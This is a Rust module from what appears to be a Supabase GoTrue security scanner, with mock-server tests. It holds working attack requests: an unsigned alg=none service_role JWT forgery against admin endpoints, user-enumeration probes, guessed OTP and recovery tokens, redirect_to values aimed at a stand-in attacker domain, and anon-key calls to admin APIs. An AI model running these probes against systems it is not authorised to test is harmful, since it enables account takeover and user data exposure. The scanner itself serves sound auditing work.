//! GoTrue: sign-up policy, user enumeration, admin endpoints and token forgery.

use chrono::Utc;
use reqwest::header::AUTHORIZATION;
use serde_json::{Value, json};

use crate::attack::{Attack, BoxFuture};
use crate::check::{Check, RequestDef};
use crate::error::AttackError;
use crate::jwt;
use crate::meta::{AttackMeta, Category, Severity};
use crate::result::Verdict;
use crate::rule::Rule;
use crate::session::{KeyRole, Service, Session, Verb};

pub(super) const CHECKS: &[Check] = &[
    crate::check! {
        id: "auth/autoconfirm",
        name: "Email confirmation disabled",
        description: "Reads the public auth settings; mailer_autoconfirm lets anyone sign up with an address they do not own.",
        category: Category::Auth,
        severity: Severity::Medium,
        tags: &["signup"],
        request: RequestDef::get(Service::Auth, "settings"),
        rule: Rule::JsonPointer("/mailer_autoconfirm"),
    },
    crate::check! {
        id: "auth/phone-autoconfirm",
        name: "Phone confirmation disabled",
        description: "Reads the public auth settings for phone_autoconfirm.",
        category: Category::Auth,
        severity: Severity::Low,
        tags: &["signup"],
        request: RequestDef::get(Service::Auth, "settings"),
        rule: Rule::JsonPointer("/phone_autoconfirm"),
    },
    crate::check! {
        id: "auth/weak-password",
        name: "Weak password accepted",
        description: "Signs up with a six-digit numeric password.",
        category: Category::Auth,
        severity: Severity::Medium,
        tags: &["signup", "password"],
        request: RequestDef::post(
            Service::Auth,
            "signup",
            r#"{"email":"supaprobe-weak@example.com","password":"123456"}"#,
        ),
        rule: Rule::Success,
    },
    crate::check! {
        id: "auth/admin-users",
        name: "Admin user list reachable",
        description: "Lists users through the GoTrue admin API with the anon key.",
        category: Category::Auth,
        severity: Severity::Critical,
        tags: &["admin", "pii"],
        request: RequestDef::get(Service::Auth, "admin/users?page=1&per_page=5"),
        rule: Rule::Success,
    },
    crate::check! {
        id: "auth/otp-enumeration",
        name: "User enumeration via OTP",
        description: "Requests a magic link for an unknown address with create_user=false; a distinct error reveals which emails exist.",
        category: Category::Auth,
        severity: Severity::Medium,
        tags: &["enumeration"],
        request: RequestDef::post(
            Service::Auth,
            "otp",
            r#"{"email":"supaprobe-unknown@example.com","create_user":false}"#,
        ),
        rule: Rule::BodyContains(&["signups not allowed for otp", "user not found"]),
    },
    crate::check! {
        id: "auth/recover-enumeration",
        name: "User enumeration via recovery",
        description: "Requests a password reset for an unknown address and looks for a user-not-found error.",
        category: Category::Auth,
        severity: Severity::Medium,
        tags: &["enumeration"],
        request: RequestDef::post(Service::Auth, "recover", r#"{"email":"supaprobe-unknown@example.com"}"#),
        rule: Rule::BodyContains(&["user not found", "email not found"]),
    },
    crate::check! {
        id: "auth/anonymous-signin",
        name: "Anonymous sign-in enabled",
        description: "Signs up without credentials; a session means anonymous users exist and RLS must account for them.",
        category: Category::Auth,
        severity: Severity::Low,
        tags: &["signup"],
        request: RequestDef::post(Service::Auth, "signup", "{}"),
        rule: Rule::JsonPointer("/access_token"),
    },
    crate::check! {
        id: "auth/magic-link-enumeration",
        name: "User enumeration via magic link",
        description: "Requests a magic link for an unknown address; an error that differs from the known-user response reveals account existence.",
        category: Category::Auth,
        severity: Severity::Medium,
        tags: &["enumeration"],
        request: RequestDef::post(Service::Auth, "magiclink", r#"{"email":"supaprobe-unknown@example.com"}"#),
        rule: Rule::BodyContains(&["user not found", "email not found", "no user"]),
    },
    crate::check! {
        id: "auth/phone-otp-enumeration",
        name: "User enumeration via SMS OTP",
        description: "Requests an SMS code for an unregistered number with create_user=false.",
        category: Category::Auth,
        severity: Severity::Medium,
        tags: &["enumeration", "phone"],
        request: RequestDef::post(Service::Auth, "otp", r#"{"phone":"+15005550006","create_user":false}"#),
        rule: Rule::BodyContains(&["signups not allowed for otp", "user not found", "phone not found"]),
    },
    crate::check! {
        id: "auth/signup-enumeration",
        name: "User enumeration via sign-up",
        description: "Signs up an address that commonly exists; an already-registered error confirms the account.",
        category: Category::Auth,
        severity: Severity::Low,
        tags: &["enumeration", "signup"],
        request: RequestDef::post(Service::Auth, "signup", r#"{"email":"admin@example.com","password":"Supaprobe-Benchmark-9!"}"#),
        rule: Rule::BodyContains(&["user already registered", "already been registered"]),
    },
    crate::check! {
        id: "auth/login-enumeration",
        name: "User enumeration via login errors",
        description: "Signs in with a wrong password and looks for errors that distinguish unknown users from bad passwords.",
        category: Category::Auth,
        severity: Severity::Low,
        tags: &["enumeration"],
        request: RequestDef::post(Service::Auth, "token?grant_type=password", r#"{"email":"supaprobe-unknown@example.com","password":"wrong"}"#),
        rule: Rule::BodyContains(&["user not found", "no user with", "email not found"]),
    },
    crate::check! {
        id: "auth/otp-signup",
        name: "OTP creates accounts",
        description: "Requests an OTP for a new address without create_user=false; success means passwordless sign-up is open.",
        category: Category::Auth,
        severity: Severity::Low,
        tags: &["signup", "otp"],
        request: RequestDef::post(Service::Auth, "otp", r#"{"email":"supaprobe-new@example.com","create_user":true}"#),
        rule: Rule::Success,
    },
    crate::check! {
        id: "auth/otp-verify-guess",
        name: "OTP verify accepts guesses",
        description: "Submits a guessed six-digit email OTP; a session means codes are short enough to brute force without lockout.",
        category: Category::Auth,
        severity: Severity::High,
        tags: &["otp", "brute-force"],
        request: RequestDef::post(Service::Auth, "verify", r#"{"type":"email","email":"supaprobe-unknown@example.com","token":"000000"}"#),
        rule: Rule::JsonPointer("/access_token"),
    },
    crate::check! {
        id: "auth/recovery-token-guess",
        name: "Recovery token accepted without email",
        description: "Verifies a recovery flow with a guessed token; success hands out a session for someone else's account.",
        category: Category::Auth,
        severity: Severity::Critical,
        tags: &["recovery"],
        request: RequestDef::post(Service::Auth, "verify", r#"{"type":"recovery","email":"admin@example.com","token":"000000"}"#),
        rule: Rule::JsonPointer("/access_token"),
    },
    crate::check! {
        id: "auth/recover-redirect",
        name: "Recovery redirect not allow-listed",
        description: "Requests a password reset that redirects to an attacker domain; acceptance lets reset links leak tokens.",
        category: Category::Auth,
        severity: Severity::High,
        tags: &["recovery", "open-redirect"],
        request: RequestDef::post(Service::Auth, "recover?redirect_to=https%3A%2F%2Fevil.supaprobe.test", r#"{"email":"supaprobe-unknown@example.com"}"#),
        rule: Rule::Success,
    },
    crate::check! {
        id: "auth/magic-link-redirect",
        name: "Magic link redirect not allow-listed",
        description: "Requests a magic link whose redirect_to points at an attacker domain.",
        category: Category::Auth,
        severity: Severity::High,
        tags: &["open-redirect"],
        request: RequestDef::post(Service::Auth, "otp?redirect_to=https%3A%2F%2Fevil.supaprobe.test", r#"{"email":"supaprobe-unknown@example.com"}"#),
        rule: Rule::Success,
    },
    crate::check! {
        id: "auth/oauth-redirect",
        name: "OAuth redirect not allow-listed",
        description: "Starts a GitHub OAuth flow with an attacker redirect_to and checks whether it is carried into the provider redirect.",
        category: Category::Auth,
        severity: Severity::High,
        tags: &["oauth", "open-redirect"],
        request: RequestDef::get(Service::Auth, "authorize?provider=github&redirect_to=https%3A%2F%2Fevil.supaprobe.test"),
        rule: Rule::HeaderContains("location", "evil.supaprobe.test"),
    },
    crate::check! {
        id: "auth/admin-generate-link",
        name: "Admin link generation reachable",
        description: "Generates a magic link through the admin API with the anon key.",
        category: Category::Auth,
        severity: Severity::Critical,
        tags: &["admin"],
        request: RequestDef::post(Service::Auth, "admin/generate_link", r#"{"type":"magiclink","email":"admin@example.com"}"#),
        rule: Rule::Success,
    },
    crate::check! {
        id: "auth/admin-create-user",
        name: "Admin user creation reachable",
        description: "Creates a pre-confirmed user through the admin API with the anon key.",
        category: Category::Auth,
        severity: Severity::Critical,
        tags: &["admin"],
        request: RequestDef::post(Service::Auth, "admin/users", r#"{"email":"supaprobe-admin@example.com","email_confirm":true}"#),
        rule: Rule::Success,
    },
    crate::check! {
        id: "auth/admin-audit",
        name: "Auth audit log reachable",
        description: "Reads the GoTrue audit log with the anon key.",
        category: Category::Auth,
        severity: Severity::High,
        tags: &["admin", "logs"],
        request: RequestDef::get(Service::Auth, "admin/audit?per_page=5"),
        rule: Rule::Success,
    },
    crate::check! {
        id: "auth/admin-factors",
        name: "MFA factor admin reachable",
        description: "Lists a user's MFA factors through the admin API with the anon key.",
        category: Category::Auth,
        severity: Severity::High,
        tags: &["admin", "mfa"],
        request: RequestDef::get(Service::Auth, "admin/users/00000000-0000-0000-0000-000000000000/factors"),
        rule: Rule::Success,
    },
    crate::check! {
        id: "auth/invite-open",
        name: "Invites sent with the anon key",
        description: "Invites an address through the invite endpoint, which should require the service role.",
        category: Category::Auth,
        severity: Severity::High,
        tags: &["admin", "signup"],
        request: RequestDef::post(Service::Auth, "invite", r#"{"email":"supaprobe-invite@example.com"}"#),
        rule: Rule::Success,
    },
    crate::check! {
        id: "auth/user-without-session",
        name: "User endpoint answers the anon key",
        description: "Calls /user with only the anon key; anything but 401 means the anon JWT is treated as a user.",
        category: Category::Auth,
        severity: Severity::Medium,
        tags: &["session"],
        request: RequestDef::get(Service::Auth, "user"),
        rule: Rule::JsonPointer("/id"),
    },
    crate::check! {
        id: "auth/signup-disabled-check",
        name: "Open sign-up",
        description: "Reads the auth settings; disable_signup=false means anyone can create an account.",
        category: Category::Auth,
        severity: Severity::Low,
        tags: &["signup"],
        request: RequestDef::get(Service::Auth, "settings"),
        rule: Rule::BodyMatches(r#""disable_signup"\s*:\s*false"#),
    },
    crate::check! {
        id: "auth/providers-listed",
        name: "External providers advertised",
        description: "Reads the auth settings for enabled external providers, which widens the sign-in surface.",
        category: Category::Auth,
        severity: Severity::Low,
        tags: &["oauth", "enumeration"],
        request: RequestDef::get(Service::Auth, "settings"),
        rule: Rule::BodyMatches(r#""(github|google|azure|gitlab|bitbucket|discord)"\s*:\s*true"#),
    },
    crate::check! {
        id: "auth/sms-provider",
        name: "SMS provider exposed in settings",
        description: "Reads the auth settings for the configured SMS provider.",
        category: Category::Auth,
        severity: Severity::Low,
        tags: &["information-disclosure", "phone"],
        request: RequestDef::get(Service::Auth, "settings"),
        rule: Rule::BodyMatches(r#""sms_provider"\s*:\s*"[a-z]+""#),
    },
    crate::check! {
        id: "auth/refresh-reuse",
        name: "Refresh token grant without a token",
        description: "Requests a refresh_token grant with an empty token; success means refresh validation is broken.",
        category: Category::Auth,
        severity: Severity::Critical,
        tags: &["session"],
        request: RequestDef::post(Service::Auth, "token?grant_type=refresh_token", r#"{"refresh_token":""}"#),
        rule: Rule::JsonPointer("/access_token"),
    },
    crate::check! {
        id: "auth/reauthenticate-open",
        name: "Reauthentication without a session",
        description: "Requests a reauthentication nonce with only the anon key.",
        category: Category::Auth,
        severity: Severity::Low,
        tags: &["session"],
        request: RequestDef::get(Service::Auth, "reauthenticate"),
        rule: Rule::Success,
    },
    crate::check! {
        id: "auth/password-length",
        name: "Short password accepted",
        description: "Signs up with a four-character password.",
        category: Category::Auth,
        severity: Severity::Medium,
        tags: &["signup", "password"],
        request: RequestDef::post(Service::Auth, "signup", r#"{"email":"supaprobe-short@example.com","password":"abcd"}"#),
        rule: Rule::Success,
    },
];

pub(super) const PROBES: &[&dyn Attack] = &[&SignupSession, &AlgNoneBypass];

/// Signs up a throwaway address and checks whether a session comes straight back.
pub(super) struct SignupSession;

static SIGNUP_SESSION: AttackMeta = AttackMeta {
    id: "auth/signup-session",
    name: "Unconfirmed sign-up gets a session",
    description: "Signs up a fresh address; an access token in the response means no email verification stands between sign-up and data access.",
    category: Category::Auth,
    severity: Severity::High,
    tags: &["signup"],
    requires_service_key: false,
};

impl Attack for SignupSession {
    fn meta(&self) -> &AttackMeta {
        &SIGNUP_SESSION
    }

    fn probe<'a>(&'a self, session: &'a Session) -> BoxFuture<'a, Result<Verdict, AttackError>> {
        Box::pin(async move {
            let email = format!("supaprobe+{}@example.com", Utc::now().timestamp_millis());
            let body = json!({ "email": email, "password": "Supaprobe-Benchmark-9!" });
            let observed = session
                .observe(session.post_json(Service::Auth, "signup", KeyRole::Anon, &body)?)
                .await?;

            let details = json!({ "email": email });
            if !observed.is_success() {
                return Ok(Verdict::secure(format!("sign-up refused (status {})", observed.status))
                    .with_details(details)
                    .with_evidence(observed.evidence()));
            }

            let has_token = observed
                .json()
                .and_then(|v| v.get("access_token").and_then(Value::as_str).map(str::to_owned))
                .is_some_and(|t| !t.is_empty());

            let verdict = if has_token {
                Verdict::breached("sign-up returned an access token without email confirmation")
            } else {
                Verdict::secure("sign-up accepted but confirmation is required")
            };
            Ok(verdict
                .with_details(details)
                .with_evidence(json!({ "status": observed.status })))
        })
    }
}

/// Presents an `alg: none` service-role token to the GoTrue admin API.
pub(super) struct AlgNoneBypass;

static ALG_NONE: AttackMeta = AttackMeta {
    id: "auth/alg-none",
    name: "Unsigned JWT accepted",
    description: "Forges a service_role token with alg=none and an empty signature and presents it as the bearer.",
    category: Category::Auth,
    severity: Severity::Critical,
    tags: &["jwt", "forgery"],
    requires_service_key: false,
};

const FORGED_TARGETS: [&str; 2] = ["admin/users?per_page=1", "admin/audit?per_page=1"];

impl Attack for AlgNoneBypass {
    fn meta(&self) -> &AttackMeta {
        &ALG_NONE
    }

    fn probe<'a>(&'a self, session: &'a Session) -> BoxFuture<'a, Result<Verdict, AttackError>> {
        Box::pin(async move {
            let now = Utc::now().timestamp();
            let token = jwt::forge_unsigned(&json!({
                "iss": "supabase",
                "role": "service_role",
                "iat": now,
                "exp": now + 3600,
            }));

            let mut tried = Vec::new();
            for path in FORGED_TARGETS {
                let builder = session
                    .request(Verb::Get, Service::Auth, path, KeyRole::None)?
                    .header("apikey", session.context().anon_key.as_str())
                    .header(AUTHORIZATION, format!("Bearer {token}"));
                let observed = session.observe(builder).await?;
                let endpoint = format!("/{}{path}", Service::Auth.prefix());

                if observed.is_success() {
                    return Ok(Verdict::breached(format!("{endpoint} accepted an unsigned service_role token"))
                        .with_evidence(observed.evidence()));
                }
                tried.push(json!({ "endpoint": endpoint, "status": observed.status }));
            }

            Ok(Verdict::secure("unsigned tokens rejected").with_details(json!({ "tried": tried })))
        })
    }
}

#[cfg(test)]
mod tests {
    use wiremock::matchers::{header, method, path};
    use wiremock::{Mock, MockServer, ResponseTemplate};

    use super::*;
    use crate::attack::DEFAULT_ATTACK_TIMEOUT;
    use crate::result::AttackStatus;
    use crate::session::{AttackContext, DEFAULT_REQUEST_TIMEOUT};

    fn session_for(server: &MockServer) -> Session {
        let ctx = AttackContext::new(&server.uri(), "anon").unwrap();
        Session::new(ctx, DEFAULT_REQUEST_TIMEOUT).unwrap()
    }

    #[tokio::test]
    async fn signup_with_token_is_breached() {
        let server = MockServer::start().await;
        Mock::given(method("POST"))
            .and(path("/auth/v1/signup"))
            .respond_with(ResponseTemplate::new(200).set_body_json(json!({"access_token": "eyJ..."})))
            .mount(&server)
            .await;

        let result = SignupSession.execute(&session_for(&server), DEFAULT_ATTACK_TIMEOUT).await;
        assert_eq!(result.status, AttackStatus::Breached);
    }

    #[tokio::test]
    async fn signup_requiring_confirmation_is_secure() {
        let server = MockServer::start().await;
        Mock::given(method("POST"))
            .and(path("/auth/v1/signup"))
            .respond_with(ResponseTemplate::new(200).set_body_json(json!({"id": "u1", "confirmation_sent_at": "x"})))
            .mount(&server)
            .await;

        let result = SignupSession.execute(&session_for(&server), DEFAULT_ATTACK_TIMEOUT).await;
        assert_eq!(result.status, AttackStatus::Secure);
        assert!(result.summary.contains("confirmation"));
    }

    #[tokio::test]
    async fn forged_token_accepted_by_admin_api_is_breached() {
        let server = MockServer::start().await;
        Mock::given(method("GET"))
            .and(path("/auth/v1/admin/users"))
            .and(header("apikey", "anon"))
            .respond_with(ResponseTemplate::new(200).set_body_string(r#"{"users":[]}"#))
            .mount(&server)
            .await;

        let result = AlgNoneBypass.execute(&session_for(&server), DEFAULT_ATTACK_TIMEOUT).await;
        assert_eq!(result.status, AttackStatus::Breached);
    }

    #[tokio::test]
    async fn rejected_forged_token_is_secure() {
        let server = MockServer::start().await;
        Mock::given(method("GET"))
            .respond_with(ResponseTemplate::new(401))
            .mount(&server)
            .await;

        let result = AlgNoneBypass.execute(&session_for(&server), DEFAULT_ATTACK_TIMEOUT).await;
        assert_eq!(result.status, AttackStatus::Secure);
        assert_eq!(result.details.unwrap()["tried"].as_array().unwrap().len(), 2);
    }
}
